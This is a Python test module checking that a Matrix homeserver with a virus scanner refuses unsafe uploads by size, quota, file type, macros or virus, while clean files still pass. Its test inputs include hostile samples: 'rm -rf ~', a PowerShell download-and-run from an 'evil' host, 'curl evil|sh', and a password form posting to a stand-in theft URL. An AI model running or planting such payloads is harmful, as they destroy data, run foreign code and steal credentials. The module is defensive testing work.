"""Issue 11: uploads kept safe, as real uploads to a real Synapse with Parta and Debian's real clamd.

Each attack test makes the refused upload (status, errcode, Parta's reason and message) next to the
legitimate one that still succeeds: per-role sizes (a pupil's file over the pupil's limit, a teacher's
of the same size), quotas over time, programs and types Parta does not keep, and viruses (the EICAR test
file). docs/security.md lists these tests.

This module runs its own installation (``parta init --clamd``) and Synapse, so that the session's
homeserver stays without a virus scanner: clamd (``clamav-daemon``, installed with apt-get when missing)
is started here in the foreground with a config of its own (a Unix socket and a signature database in a
temporary directory). The public signature download is out of reach, so its database is one line of
our own: EICAR's MD5 and size (an ``.hdb`` hash signature, clamd reports it as
``Parta.Test.EICAR.UNOFFICIAL``).
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import socket
import sqlite3
import subprocess
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psycopg2
import pytest
from ruamel.yaml import YAML

from spaces_provisioner.homeserver.config_file import read_synapse_config
from spaces_provisioner.install.installation import init_installation
from spaces_provisioner.install.supervisor import running
from spaces_provisioner.settings import Settings

from ..conftest import PG_ADMIN_DSN, SERVER_NAME, _pg, relax_rate_limits
from ..debian import ensure_package
from ..files import (
    APK,
    EICAR,
    JAR,
    MSI_CLSID,
    PDF,
    PE,
    PYZ,
    WORD_CLSID,
    compound_file,
    pdf_of,
    png,
    word_document,
    zip_of,
)
from ..helpers import Homeserver, User
from ..processes import free_port
from ..schools import attack_cast, write_attack_roster

pytestmark = pytest.mark.synapse
MB = 1024 ** 2
TIMINGS: dict[str, float] = {}


class Clamd:
    """Debian's clamd in the foreground with its own config, socket and one-line signature database."""

    def __init__(self, root: Path):
        self.binary = ensure_package("clamd", "clamav-daemon")
        self.root = root
        self.socket = root / "clamd.sock"
        db = root / "db"
        db.mkdir()
        (db / "parta-test.hdb").write_text(f"{hashlib.md5(EICAR).hexdigest()}:{len(EICAR)}:Parta.Test.EICAR\n")
        self.config = root / "clamd.conf"
        self.config.write_text("\n".join([
            "Foreground yes", f"LocalSocket {self.socket}", f"DatabaseDirectory {db}", f"LogFile {root / 'clamd.log'}",
            "StreamMaxLength 200M", "Bytecode no", ""]))
        self.proc: subprocess.Popen | None = None

    def start(self, timeout: float = 60.0) -> float:
        """Start and wait until it answers ``PING``; the seconds that took."""
        t0 = time.monotonic()
        with contextlib.suppress(FileNotFoundError):
            self.socket.unlink()
        self.proc = subprocess.Popen([self.binary, "-c", str(self.config)], stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, start_new_session=True)
        while time.monotonic() - t0 < timeout:
            if self.proc.poll() is not None:
                raise RuntimeError(f"clamd exited with {self.proc.returncode}: {(self.root / 'clamd.log').read_text()}")
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
                s.settimeout(2)
                s.connect(str(self.socket))
                s.sendall(b"zPING\0")
                if s.recv(16).startswith(b"PONG"):
                    return time.monotonic() - t0
            time.sleep(0.1)
        raise RuntimeError("clamd did not answer PING")

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.proc = None


@pytest.fixture(scope="module")
def clamd(tmp_path_factory) -> Iterator[Clamd]:
    daemon = Clamd(tmp_path_factory.mktemp("clamd"))
    TIMINGS["clamd_start_s"] = daemon.start()
    yield daemon
    daemon.stop()


@pytest.fixture(scope="module")
def uploads_db() -> Iterator[str | None]:
    """A PostgreSQL database of this module's own (C collation) under PARTA_TEST_DB=postgres: the session's
    Synapse has the session's."""
    if os.environ.get("PARTA_TEST_DB", "sqlite") != "postgres":
        yield None
        return
    name = f"parta_up_{uuid.uuid4().hex[:10]}"
    _pg(f"CREATE DATABASE {name} LOCALE 'C' TEMPLATE template0 ENCODING 'UTF8'")
    try:
        yield PG_ADMIN_DSN.replace("dbname=postgres", f"dbname={name}")
    finally:
        _pg(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")


@pytest.fixture(scope="module")
def up_installation(tmp_path_factory, clamd, uploads_db) -> Settings:
    """``parta init --clamd unix:SOCKET``, with the suite's relaxed rate limits."""
    t0 = time.monotonic()
    settings = init_installation(tmp_path_factory.mktemp("parta-up"), SERVER_NAME, postgres_dsn=uploads_db,
                                 port=free_port(), provisioning_port=free_port(), bridge_port=free_port(),
                                 turn_port=free_port(), clamd=f"unix:{clamd.socket}")
    TIMINGS["init_s"] = time.monotonic() - t0
    relax_rate_limits(settings.homeserver_config)
    return settings


@pytest.fixture(scope="module")
async def up(up_installation) -> Homeserver:
    t0 = time.monotonic()
    with running(up_installation):
        TIMINGS["start_s"] = time.monotonic() - t0
        handle = Homeserver(up_installation)
        await handle.open()
        try:
            yield handle
        finally:
            await handle.close()


@dataclass
class World:
    teacher: User
    pupil: User
    parent: User
    outsider: User


@pytest.fixture(scope="module")
async def w(up, tmp_path_factory) -> World:
    c = attack_cast()
    school = await up.new_school(roster=write_attack_roster(tmp_path_factory.mktemp("uploads-roster")))
    org = school["org"]
    return World(teacher=await up.person(org, c.teacher, confirmed=True), pupil=await up.person(org, c.student),
                 parent=await up.person(org, c.parent), outsider=await up.outsider())


async def upload(u: User, data: bytes, content_type: str = "application/octet-stream",
                 filename: str = "file") -> tuple[int, dict]:
    """``POST /_matrix/media/v3/upload`` as a client does: ``(status, JSON body)``."""
    async with u.api.session.post(f"{u.base_url}/_matrix/media/v3/upload", data=data, params={"filename": filename},
                                  headers={"Authorization": f"Bearer {u.token}", "Content-Type": content_type}) as r:
        return r.status, await r.json(content_type=None)


def refused(resp: tuple[int, dict], reason: str, *, status: int = 403, errcode: str = "M_FORBIDDEN",
            says: str | None = None) -> dict:
    """Assert a refusal: status, errcode, Parta's reason, a Russian message, ``says`` in the English one."""
    code, body = resp
    assert (code, body.get("errcode"), body.get("org.parta.reason")) == (status, errcode, reason), body
    assert body.get("error") and body["error"] == body["org.parta.messages"]["ru"], body
    if says is not None:
        assert says in body["org.parta.messages"]["en"], body
    return body


def kept(resp: tuple[int, dict]) -> str:
    code, body = resp
    assert code == 200, body
    assert body["content_uri"].startswith(f"mxc://{SERVER_NAME}/"), body
    return body["content_uri"]


async def media_config(u: User) -> dict:
    return await u.get("/_matrix/client/v1/media/config")


async def test_pupil_uploads_a_file_over_the_pupil_limit(w):
    # clients show each person their own limit (m.upload.size), and Synapse holds the upload to it
    assert (await media_config(w.pupil))["m.upload.size"] == 20 * MB
    assert (await media_config(w.teacher))["m.upload.size"] == 100 * MB
    data = pdf_of(21 * MB)
    t0 = time.monotonic()
    body = refused(await upload(w.pupil, data, "application/pdf", "lesson.pdf"), "upload_too_large", status=413,
                   errcode="M_TOO_LARGE", says="you may upload files of up to 20 MB")
    assert body["error"] == "Файл слишком большой (21 МБ): вы можете загружать файлы до 20 МБ"
    TIMINGS["refused_21mb_s"] = time.monotonic() - t0
    t0 = time.monotonic()
    kept(await upload(w.teacher, data, "application/pdf", "lesson.pdf"))  # the teacher's limit is larger
    TIMINGS["kept_scanned_21mb_s"] = time.monotonic() - t0


async def test_outsider_uploads_more_than_an_outsider_may(w):
    assert (await media_config(w.outsider))["m.upload.size"] == 2 * MB
    assert (await media_config(w.parent))["m.upload.size"] == 20 * MB
    refused(await upload(w.outsider, pdf_of(3 * MB), "application/pdf"), "upload_too_large", status=413,
            errcode="M_TOO_LARGE")
    kept(await upload(w.pupil, pdf_of(3 * MB), "application/pdf"))


async def test_outsider_passes_the_daily_quota(w):
    """The outsider's quota (10 MB a day) by 2-MB files: five are kept, the sixth is refused by Synapse's
    count of the day's uploads, with Parta's message; a pupil's quota is larger."""
    for _ in range(5):
        kept(await upload(w.outsider, pdf_of(2 * MB), "application/pdf"))
    body = refused(await upload(w.outsider, pdf_of(2 * MB), "application/pdf"), "upload_quota_exceeded",
                   errcode="M_USER_LIMIT_EXCEEDED", says="10 MB per day")
    assert body.get("info_uri"), body  # the spec's field: where the limit is explained
    kept(await upload(w.parent, pdf_of(2 * MB), "application/pdf"))


async def test_pupil_uploads_a_windows_program(w):
    body = refused(await upload(w.pupil, PE, "application/x-msdownload", "game.exe"), "file_is_program")
    assert body["error"] == "Программы и скрипты здесь пересылать нельзя"
    # the name and the Content-Type a client claims do not matter: the bytes do
    refused(await upload(w.pupil, PE, "application/pdf", "homework.pdf"), "file_is_program")
    refused(await upload(w.teacher, Path("/bin/true").read_bytes(), "application/octet-stream", "true"),
            "file_is_program")
    kept(await upload(w.pupil, PDF, "application/pdf", "homework.pdf"))
    kept(await upload(w.pupil, png(), "image/png", "drawing.png"))


async def test_pupil_uploads_a_windows_installer_as_an_old_word_document(w):
    """A Windows Installer package is an OLE2 compound file like a Word 97 document: the root entry's
    CLSID tells them apart."""
    refused(await upload(w.pupil, compound_file(MSI_CLSID), "application/msword", "referat.doc"), "file_is_program")
    kept(await upload(w.pupil, compound_file(WORD_CLSID), "application/msword", "referat.doc"))


async def test_pupil_uploads_a_script_and_a_web_page(w):
    refused(await upload(w.pupil, b"#!/bin/sh\nrm -rf ~\n", "text/plain", "notes.txt"), "file_is_program")
    refused(await upload(w.pupil, b"<!DOCTYPE html><html><script>alert(1)</script></html>", "text/plain"),
            "file_type_refused", says="text/html")
    refused(await upload(w.pupil, os.urandom(4096), "image/jpeg", "photo.jpg"), "file_type_unknown")
    kept(await upload(w.pupil, "Домашнее задание: §12, упр. 3".encode(), "text/plain", "dz.txt"))


async def test_teacher_uploads_the_eicar_test_virus(w):
    body = refused(await upload(w.teacher, EICAR, "text/plain", "eicar.txt"), "virus_found",
                   says="Parta.Test.EICAR")
    assert body["error"] == "В файле найден вирус (Parta.Test.EICAR.UNOFFICIAL), файл не сохранён"
    # the same through the two-step upload (MSC2246: create, then PUT the bytes)
    media = await w.teacher.post("/_matrix/media/v1/create")
    server, media_id = media["content_uri"].removeprefix("mxc://").split("/")
    async with w.teacher.api.session.put(
            f"{w.teacher.base_url}/_matrix/media/v3/upload/{server}/{media_id}", data=EICAR,
            headers={"Authorization": f"Bearer {w.teacher.token}", "Content-Type": "text/plain"}) as r:
        assert (r.status, (await r.json())["org.parta.reason"]) == (403, "virus_found")
    kept(await upload(w.teacher, b"A clean worksheet", "text/plain", "worksheet.txt"))
    kept(await upload(w.teacher, PDF, "application/pdf", "worksheet.pdf"))


async def put_upload(u: User, data: bytes, content_type: str, filename: str, media_id: str | None = None,
                     ) -> tuple[int, dict]:
    """The two-step upload (MSC2246): ``POST /_matrix/media/v1/create`` (unless ``media_id`` is given),
    then ``PUT /_matrix/media/v3/upload/{server}/{id}`` with the bytes: ``(status, JSON body)``."""
    if media_id is None:
        media_id = (await u.post("/_matrix/media/v1/create"))["content_uri"].rsplit("/", 1)[1]
    async with u.api.session.put(f"{u.base_url}/_matrix/media/v3/upload/{SERVER_NAME}/{media_id}", data=data,
                                 params={"filename": filename},
                                 headers={"Authorization": f"Bearer {u.token}", "Content-Type": content_type}) as r:
        return r.status, await r.json(content_type=None)


async def test_pupil_uploads_programs_by_name_inside_a_zip_or_after_a_line_of_text(w):
    """Issue 11 attack F2, the attacker's uploads: what the bytes alone took for an archive, an Office
    document or plain text is a program by what the ZIP holds, by the name the file is saved under, or by
    the claimed type; a web page hides no longer behind a first line of text."""
    for data, content_type, filename, reason in (
            (zip_of(APK), "application/vnd.android.package-archive", "hw.apk", "file_is_program"),
            (zip_of(APK), "application/zip", "hw.zip", "file_is_program"),  # what it holds, whatever its name
            (zip_of(JAR), "application/java-archive", "hw.jar", "file_is_program"),
            (zip_of(PYZ), "application/octet-stream", "hw.pyz", "file_is_program"),
            (b'@echo off\r\npowershell -c "iwr http://evil/x.exe -OutFile x.exe; start x.exe"\r\n',
             "application/x-bat", "homework.bat", "file_is_program"),
            (b'Homework list\r\n<html><head><HTA:APPLICATION/><script language="VBScript">'
             b'CreateObject("WScript.Shell").Run "calc"</script></head></html>', "application/hta", "homework.hta",
             "file_is_program"),
            (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "text/plain", "hw.vbs", "file_is_program"),
            (b"# homework\nStart-Process calc\n", "text/plain", "hw.ps1", "file_is_program"),
            (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n", "text/plain", "hw.desktop",
             "file_is_program"),
            (b"homework\r\n", "application/x-bat", "notes.txt", "file_is_program"),  # the claimed type alone
            (word_document(macros=True), "application/vnd.ms-word.document.macroEnabled.12", "homework.docm",
             "file_has_macros"),
            (word_document(macros=True), "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             "homework.docx", "file_has_macros"),  # the macros inside, whatever the name
            ("Ответы\n<html><body><form action='https://evil.example/steal'><input type=password></form>"
             "<script>document.forms[0].submit()</script></body></html>".encode(), "text/plain", "otvety.txt",
             "file_type_refused"),
            (b"hi\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "text/plain", "a.txt",
             "file_type_refused")):
        body = refused(await upload(w.pupil, data, content_type, filename), reason)
        if reason == "file_has_macros":
            assert body["error"].startswith("Документы с макросами здесь пересылать нельзя"), body
    # the two-step upload names the file in its PUT
    refused(await put_upload(w.pupil, b"@echo off\r\n", "text/plain", "homework.bat"), "file_is_program")
    # everyday files are kept
    import io

    import openpyxl

    book = io.BytesIO()
    openpyxl.Workbook().save(book)
    for data, content_type, filename in (
            ("Домашнее задание: §12, упр. 3\nЗадачи: 3 < 5, ответ <b>верный</b>".encode(), "text/plain", "dz.txt"),
            ("Фамилия;Имя\nИванов;Иван\n".encode("cp1251"), "text/csv", "spisok.csv"),
            (word_document(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             "referat.docx"),
            (book.getvalue(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "ocenki.xlsx"),
            (PDF, "application/pdf", "lesson.pdf"), (png(), "image/png", "doska.png"),
            (zip_of({"referat/referat.docx": word_document(), "app/src/main/AndroidManifest.xml": b"<manifest/>"}),
             "application/zip", "project.zip"),
            ("print('Привет')\n".encode(), "text/x-python", "zadacha.py")):
        kept(await upload(w.pupil, data, content_type, filename))
    assert (await put_upload(w.pupil, b"A worksheet", "text/plain", "worksheet.txt"))[0] == 200


def _backdate_reservation(settings: Settings, media_id: str, created_ts: int) -> None:
    """Set a reserved media id's ``created_ts`` in the homeserver's database: the test stands in for the
    hours an attacker would wait between ``/create`` and the ``PUT``."""
    db = read_synapse_config(settings.homeserver_config)["database"]
    sql = "UPDATE local_media_repository SET created_ts = {0} WHERE media_id = {0}"
    if db["name"] == "sqlite3":
        with sqlite3.connect(db["args"]["database"]) as conn:
            assert conn.execute(sql.format("?"), (created_ts, media_id)).rowcount == 1
        return
    args = {k: v for k, v in db["args"].items() if k not in ("cp_min", "cp_max")}
    args["dbname"] = args.pop("database")
    conn = psycopg2.connect(**args)
    try:
        with conn, conn.cursor() as cur:
            cur.execute(sql.format("%s"), (created_ts, media_id))
            assert cur.rowcount == 1
    finally:
        conn.close()


async def test_outsider_reserves_an_upload_to_pass_the_quota_twice(w, up, up_installation):
    """Issue 11 attack F7: Synapse counts a person's uploads by ``created_ts``, which ``/create`` sets. An id
    reserved (almost) a day before the ``PUT`` would count in a window that closes seconds later, and the
    day's quota could then be uploaded again. The reservation counts from its ``PUT``: after the window it
    was reserved in has closed, the outsider's day still holds those bytes."""
    outsider = await up.outsider()
    media_id = (await outsider.post("/_matrix/media/v1/create"))["content_uri"].rsplit("/", 1)[1]
    day_ms, margin_ms = 86_400_000, 8_000
    _backdate_reservation(up_installation, media_id, int(time.time() * 1000) - day_ms + margin_ms)
    kept_put = await put_upload(outsider, pdf_of(2 * MB), "application/pdf", "a.pdf", media_id)
    assert kept_put[0] == 200, kept_put
    await asyncio.sleep(margin_ms / 1000 + 1)  # the day the id was reserved in is over
    for _ in range(4):
        kept(await upload(outsider, pdf_of(2 * MB), "application/pdf"))
    refused(await upload(outsider, pdf_of(2 * MB), "application/pdf"), "upload_quota_exceeded",
            errcode="M_USER_LIMIT_EXCEEDED", says="10 MB per day")
    # a two-step upload made at once is kept as before
    kept_put = await put_upload(await up.outsider(), pdf_of(2 * MB), "application/pdf", "b.pdf")
    assert kept_put[0] == 200, kept_put


async def test_upload_while_clamd_is_down_is_refused_by_default(w, clamd):
    """Whoever knocks the scanner over (or while it restarts) gets no file past it unscanned."""
    clamd.stop()
    try:
        refused(await upload(w.teacher, b"A clean note", "text/plain"), "scan_unavailable",
                says="could not be checked for viruses")
    finally:
        TIMINGS["clamd_restart_s"] = await asyncio.to_thread(clamd.start)
    kept(await upload(w.teacher, b"A clean note", "text/plain"))


def test_parta_init_wrote_the_scanner_and_the_largest_upload(up_installation, clamd):
    data = YAML(typ="safe").load(up_installation.homeserver_config.read_text(encoding="utf-8"))
    module = next(m for m in data["modules"] if m["module"] == "synapse_module.PartaModule")
    assert module["config"]["media"] == {"clamd": f"unix:{clamd.socket}", "scan_unavailable": "refuse"}
    assert data["max_upload_size"] == "100M"
    print("uploads timings:", TIMINGS)
